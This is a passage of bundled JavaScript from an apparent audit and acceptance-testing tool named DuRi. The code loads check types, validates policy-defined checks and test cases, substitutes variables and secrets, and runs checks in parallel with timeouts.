   load: async () => (await Promise.all([ __webpack_require__.e(4006), __webpack_require__.e(2088), __webpack_require__.e(8186), __webpack_require__.e(5748), __webpack_require__.e(8155), __webpack_require__.e(6674), __webpack_require__.e(9231), __webpack_require__.e(7451), __webpack_require__.e(1978) ]).then(__webpack_require__.bind(__webpack_require__, 1978))).uatMutate
  }, {
   name: "uat_run",
   load: async () => (await Promise.all([ __webpack_require__.e(4006), __webpack_require__.e(2088), __webpack_require__.e(8186), __webpack_require__.e(5748), __webpack_require__.e(8155), __webpack_require__.e(6674), __webpack_require__.e(9231), __webpack_require__.e(7451), __webpack_require__.e(5003) ]).then(__webpack_require__.bind(__webpack_require__, 65003))).uatRun
  }, {
   name: "uat_suite",
   load: async () => (await Promise.all([ __webpack_require__.e(2088), __webpack_require__.e(8186), __webpack_require__.e(5748), __webpack_require__.e(6674), __webpack_require__.e(7451) ]).then(__webpack_require__.bind(__webpack_require__, 78689))).uatSuite
  }, {
   name: "xref",
   load: async () => (await Promise.all([ __webpack_require__.e(4006), __webpack_require__.e(8815), __webpack_require__.e(2088), __webpack_require__.e(8186), __webpack_require__.e(5748), __webpack_require__.e(8155), __webpack_require__.e(3687) ]).then(__webpack_require__.bind(__webpack_require__, 23687))).xrefCheck
  }, {
   name: "yaml",
   load: async () => (await Promise.all([ __webpack_require__.e(8815), __webpack_require__.e(2088), __webpack_require__.e(8186), __webpack_require__.e(5748), __webpack_require__.e(472) ]).then(__webpack_require__.bind(__webpack_require__, 472))).yamlCheck
  } ];
  async function loadCheckTypes(wanted = () => true) {
   const types = [];
   for (const entry of CHECK_TYPES) if (wanted(entry.name)) types.push(await entry.load());
   return types;
  }
  const DEFAULT_CATEGORY = "Own checks";
  const sentence = schemas.YjP().min(1).max(2e3);
  const identity = {
   id: schemas.YjP().regex(/^[A-Za-z][A-Za-z0-9._-]{0,63}$/, "is no id such as NX-01"),
   title: sentence.optional(),
   category: schemas.YjP().min(1).max(100).optional(),
   severity: schemas.k5n(severity.o).default("high"),
   why: sentence.optional(),
   fix: sentence.optional(),
   timeout_seconds: schemas.Whr().min(1).max(3600).optional(),
   serial_group: schemas.YjP().min(1).max(100).optional()
  };
  function checkSchema(types) {
   const parts = CHECK_TYPES.map(({name}) => {
    const type = types.find(one => one.name === name);
    return [ name, type === void 0 ? schemas.Vxk().optional() : type.parameters.optional().describe(type.summary) ];
   });
   return schemas.rej({
    ...identity,
    ...Object.fromEntries(parts)
   });
  }
  async function selectChecks({preset, own, variables, timeoutSeconds}) {
   const everyCheck = [ ...(preset?.categories ?? []).flatMap(({checks: written}) => written), ...own ];
   const types = await loadCheckTypes(name => everyCheck.some(written => Object.hasOwn(written, name)));
   const schema = checkSchema(types);
   const checks = [];
   const problems = [];
   const take = (written, place, category) => {
    const filled = (0, checks_variables.V)(written, variables);
    const shape = (0, shape_document.Zz)(filled.value, schema);
    problems.push(...filled.problems.map(({where, message}) => ({
     where: joined(place, where),
     message
    })));
    if (!shape.ok) {
     problems.push(...shape.problems.map(problem => ({
      where: joined(place, pathOf(problem)),
      message: problem.message
     })));
     return;
    }
    const check = toCheck(shape.value, {
     types,
     category,
     timeoutSeconds
    });
    if (typeof check === "string") problems.push({
     where: place,
     message: check
    }); else checks.push(check);
   };
   for (const {name, checks: written} of preset?.categories ?? []) for (const one of written) take(one, `${preset?.name ?? ""}: ${one.id}`, name);
   for (const [index, one] of own.entries()) take(one, `audit.checks[${index}]`, DEFAULT_CATEGORY);
   return {
    checks,
    problems
   };
  }
  function toCheck(value, {types, category, timeoutSeconds}) {
   const {id, title, category: own, severity, why, fix, timeout_seconds, serial_group, ...rest} = value;
   const kinds = types.filter(({name}) => rest[name] !== void 0);
   const [type] = kinds;
   if (type === void 0) return `says nothing that is to be checked; expected one of ${CHECK_TYPES.map(({name}) => name).join(", ")}`;
   if (kinds.length > 1) return `has ${kinds.length} kinds (${kinds.map(({name}) => name).join(", ")}); a check has one`;
   return {
    id,
    title: title ?? id,
    category: own ?? category,
    severity,
    why,
    fix,
    type,
    parameters: rest[type.name],
    timeoutMs: (timeout_seconds ?? timeoutSeconds) * 1e3,
    serialGroup: serial_group
   };
  }
  function pathOf({path, key}) {
   return [ ...path, ...key === void 0 ? [] : [ key ] ].map(part => typeof part === "number" ? `[${part}]` : `.${String(part)}`).join("").replace(/^\./, "");
  }
  function joined(place, where) {
   return where === "" ? place : `${place}.${where}`;
  }
  const UAT_CATEGORY = "Acceptance tests";
  async function loadSuite(ports, {policy, path}, withSecrets = false) {
   const preset = policy.preset === void 0 ? void 0 : await (0, load_preset._)(policy.preset);
   const {checks: ownChecks = [], timeout_seconds: timeoutSeconds = DEFAULT_SECONDS} = policy.audit ?? {};
   const {cases: ownCases = [], target, rehearsal} = policy.uat ?? {};
   const declared = preset?.variables ?? [];
   const {variables, problems} = loadVariables(ports, {
    declared,
    given: policy.vars,
    usedIn: [ ownChecks, ownCases, target, rehearsal, runtime_variables.b1.map(({name}) => `\${${name}}`) ],
    withSecrets
   });
   const selected = await selectChecks({
    preset,
    own: ownChecks,
    variables,
    timeoutSeconds
   });
   const all = [ ...problems, ...selected.problems ];
   if (all.length > 0) throw await invalid(ports, path ?? "duri.yml", all);
   return {
    preset,
    checks: selected.checks,
    uat: uatOf(policy, preset, variables),
    variables
   };
  }
  const DEFAULT_SECONDS = 60;
  const DEFAULT_CASE_SECONDS = 120;
  function uatOf({uat}, preset, variables) {
   return {
    cases: [ ...preset?.cases ?? [], ...uat?.cases ?? [] ].map(toCase),
    variables,
    target: uat?.target,
    rehearsal: {
     ...preset?.rehearsal,
     ...uat?.rehearsal
    },
    allowHosts: uat?.allow_hosts ?? [],
    timeoutSeconds: uat?.timeout_seconds ?? DEFAULT_CASE_SECONDS,
    expected: uat?.expect.uats ?? preset?.cases.length
   };
  }
  function toCase(written) {
   const id = String(written["id"]);
   const text = key => typeof written[key] === "string" ? written[key] : void 0;
   return {
    id,
    title: text("title") ?? id,
    category: text("category") ?? UAT_CATEGORY,
    severity: severity.o.find(one => one === written["severity"]) ?? "high",
    why: text("why"),
    fix: text("fix"),
    written
   };
  }
  async function invalid({files}, path, problems) {
   const content = files.read(path, limits.b.policyBytes);
   const {locateInPolicy} = await Promise.all([ __webpack_require__.e(8815), __webpack_require__.e(4242), __webpack_require__.e(7863) ]).then(__webpack_require__.bind(__webpack_require__, 24242));
   const locate = content === void 0 ? void 0 : locateInPolicy(content);
   const placed = problems.map(({where, message}) => {
    const at = locate === void 0 || !/^(?:audit|uat|vars)\b/.test(where) ? void 0 : locate(fieldOf(where));
    const line = at === void 0 ? "" : `:${at.line}:${at.column}`;
    return {
     where: `${path}${line}`,
     message: where === "" ? message : `${where} ${message}`
    };
   });
   return (0, load_policy.IO)(path, placed);
  }
  function fieldOf(where) {
   return where.split(/[.[\]]+/).filter(part => part !== "");
  }
 }),
 99837: ((__unused_webpack___webpack_module__, __webpack_exports__, __webpack_require__) => {
  __webpack_require__.d(__webpack_exports__, {
   K: () => observationOf,
   b: () => runAudit
  });
  var _model_errors_js__WEBPACK_IMPORTED_MODULE_0__ = __webpack_require__(74132);
  var _checks_observation_js__WEBPACK_IMPORTED_MODULE_1__ = __webpack_require__(52888);
  var _checks_run_all_js__WEBPACK_IMPORTED_MODULE_3__ = __webpack_require__(66689);
  var _ground_js__WEBPACK_IMPORTED_MODULE_2__ = __webpack_require__(38140);
  const MARGIN_MS = 250;
  async function runAudit(shared, checks, {jobs, permit, progress}) {
   const tasks = checks.map(check => ({
    group: check.serialGroup,
    run: () => runCheck(shared, check, permit)
   }));
   return (0, _checks_run_all_js__WEBPACK_IMPORTED_MODULE_3__.$)(tasks, jobs, progress);
  }
  async function runCheck(shared, check, permit) {
   const {id, title, category, severity, why, fix, type, parameters} = check;
   const started = shared.ports.clock.now().getTime();
   const executes = type.executes(parameters);
   const observations = executes && !permit.allowed ? [ refusal(check, permit) ] : await observe(shared, check);
   const seconds = Math.max(0, shared.ports.clock.now().getTime() - started) / 1e3;
   return {
    id,
    title,
    category,
    severity,
    why,
    fix,
    observations,
    seconds,
    attempts: 1,
    executes
   };
  }
  function refusal({id}, permit) {
   return (0, _checks_observation_js__WEBPACK_IMPORTED_MODULE_1__.nv)("infra", id, `runs what is under test, and was not run: ${permit.why}`, {
    fix: permit.fix
   });
  }
  async function observe(shared, check) {
   const {type, parameters, timeoutMs, id} = check;
   let onTime = () => {};
   const late = new Promise(resolve => {
    const fix = "Look for what it waits for, or give it more with timeout_seconds.";
    onTime = shared.ports.clock.after(timeoutMs, () => resolve([ (0, _checks_observation_js__WEBPACK_IMPORTED_MODULE_1__.nv)("infra", id, `did not end within ${timeoutMs / 1e3} s`, {
     fix
    }) ]));
   });
   try {
    const ground = (0, _ground_js__WEBPACK_IMPORTED_MODULE_2__.Y)(shared, Math.max(1, timeoutMs - MARGIN_MS), shared.readsOf?.(id));
    return await Promise.race([ Promise.resolve().then(() => type.observe(ground, parameters)), late ]);
   } catch (error) {
    return [ observationOf(error, id) ];
   } finally {
    onTime();
   }
  }
  function observationOf(error, subject) {
   if (error instanceof _checks_observation_js__WEBPACK_IMPORTED_MODULE_1__.G_) return error.observation;
   if (error instanceof _model_errors_js__WEBPACK_IMPORTED_MODULE_0__.cs) return (0, 
   _checks_observation_js__WEBPACK_IMPORTED_MODULE_1__.nv)(error.kind, subject, `could not be looked at: ${error.message}`, {
    fix: error.hint
   });
   return (0, _checks_observation_js__WEBPACK_IMPORTED_MODULE_1__.nv)("infra", subject, `could not be looked at: DuRi met something it did not expect: ${(0, 
   _model_errors_js__WEBPACK_IMPORTED_MODULE_0__.bD)(error)}`, {
    fix: "Please report it."
   });
  }
 }),
 66689: ((__unused_webpack___webpack_module__, __webpack_exports__, __webpack_require__) => {
  __webpack_require__.d(__webpack_exports__, {
   $: () => runAll
  });
  async function runAll(tasks, jobs, done = () => {}) {
   const results = new Map;
   const waiting = tasks.map((task, index) => ({
    ...task,
    index,
    run: () => task.run()
   }));
   const busy = new Set;
   const takeNext = () => {
    const at = waiting.findIndex(({group}) => group === void 0 || !busy.has(group));
    return at === -1 ? void 0 : waiting.splice(at, 1)[0];
   };
   await new Promise((resolve, reject) => {
    let running = 0;
    const start = () => {
     if (results.size === tasks.length) return resolve();
     while (running < jobs) {
      const task = takeNext();
      if (task === void 0) return;
      running += 1;
      if (task.group !== void 0) busy.add(task.group);
      task.run().then(result => {
       running -= 1;
       if (task.group !== void 0) busy.delete(task.group);
       results.set(task.index, result);
       done(results.size);
       start();
      }, reject);
     }
    };
    start();
   });
   return tasks.flatMap((_, index) => results.has(index) ? [ results.get(index) ] : []);
  }
 }),
 55187: ((__unused_webpack___webpack_module__, __webpack_exports__, __webpack_require__) => {
  __webpack_require__.d(__webpack_exports__, {
   V: () => substitute
  });
  var _shape_nearest_js__WEBPACK_IMPORTED_MODULE_0__ = __webpack_require__(34348);
  const REFERENCE = /(\\|\$)?\$\{([a-z][a-z0-9_]*)\}/g;
  function substitute(written, {values, secrets}, withSecrets = false) {
   const problems = [];
   const known = [ ...values.keys(), ...withSecrets ? secrets.keys() : [] ];
   const lookUp = (name, where) => {
    const value = values.get(name) ?? (withSecrets ? secretText(secrets.get(name)) : void 0);
    if (value !== void 0) return value;
    const suggestion = (0, _shape_nearest_js__WEBPACK_IMPORTED_MODULE_0__.p)(name, known);
    problems.push({
     where,
     message: secrets.has(name) ? `names the secret \${${name}}, which an audit check cannot take` : `names the unknown variable \${${name}}${suggestion === void 0 ? "" : `; did you mean "${suggestion}"?`}`
    });
    return "";
   };
   const fill = (value, where) => {
    if (typeof value === "string") return fillText(value, name => lookUp(name, where));
    if (Array.isArray(value)) return value.flatMap((item, index) => {
     const filled = fill(item, `${where}[${index}]`);
     return typeof item === "string" && Array.isArray(filled) ? filled : [ filled ];
    });
    if (typeof value !== "object" || value === null) return value;
    return Object.fromEntries(Object.entries(value).map(([key, inner]) => [ key, fill(inner, where === "" ? key : `${where}.${key}`) ]));
   };
   return {
    value: fill(written, ""),
    problems
   };
  }
  function fillText(text, lookUp) {
   const whole = /^\$\{([a-z][a-z0-9_]*)\}$/.exec(text);
   if (whole?.[1] !== void 0) return lookUp(whole[1]);
   return text.replace(REFERENCE, (match, before, name) => {
    if (before === "\\") return match;
    if (before === "$") return match.slice(1);
    const value = lookUp(name);
    return typeof value === "object" ? value.join(",") : String(value);
   });
  }
  function secretText(secret) {
   return secret === void 0 ? void 0 : Buffer.from(secret.reveal()).toString("utf8");
  }
 }),
 31415: ((__unused_webpack___webpack_module__, __webpack_exports__, __webpack_require__) => {
  __webpack_require__.d(__webpack_exports__, {
   Vh: () => secretTexts,
   Yz: () => sampleVariables,
   b1: () => RUNTIME_VARIABLES
  });
  var _model_secret_js__WEBPACK_IMPORTED_MODULE_0__ = __webpack_require__(34211);
  const variable = (name, sample, help) => ({
   name,
   sample,
   help,
   secret: false
  });
  const secret = (name, help) => ({
   name,
   sample: "not-a-secret",
   help,
   secret: true
  });
  const RUNTIME_VARIABLES = [ variable("uat_base_url", "http://127.0.0.1:1", "Base URL of what is tested, without a slash at the end."), variable("uat_user", "uat", "The user that signs in."), secret("uat_password", "The password of that user."), secret("uat_sink_secret", "What webhooks are signed with."), secret("uat_token", "A second secret for what needs more than a password, such as resetting a kill switch."), variable("uat_port", 1, "The port that the service behind the proxy listens on."), variable("uat_sink_port", 1, "The port of 127.0.0.1 that webhooks are received on."), variable("uat_sink_url", "http://127.0.0.1:1/robot/send?access_token=uat", "The webhook that the service is to send to."), variable("uat_state_dir", "state", "An empty folder for the state of the service."), variable("uat_idle_hold", "65s", "How long a websocket must stay open with nothing said: 65s beats the 60 s of nginx. A rehearsal takes 1s.") ];
  function sampleVariables({values, secrets}, captured) {
   const dummy = new _model_secret_js__WEBPACK_IMPORTED_MODULE_0__.z(Buffer.from("not-a-secret"));
   const missing = RUNTIME_VARIABLES.filter(({name}) => !values.has(name) && !secrets.has(name));
   return {
    values: new Map([ ...missing.flatMap(({name, sample, secret: hidden}) => hidden ? [] : [ [ name, sample ] ]), ...[ ...captured ].map(name => [ name, "captured" ]), ...values ]),
    secrets: new Map([ ...missing.flatMap(({name, secret: hidden}) => hidden ? [ [ name, dummy ] ] : []), ...[ ...secrets.keys() ].map(name => [ name, dummy ]) ])
   };
  }
  function secretTexts({values, secrets}) {
   const user = values.get("uat_user");
   return [ ...secrets.values() ].flatMap(one => {
    const text = Buffer.from(one.reveal()).toString("utf8");
    return typeof user === "string" && text !== "" ? [ text, `${user}:${text}` ] : [ text ];
   });
  }
 })
};
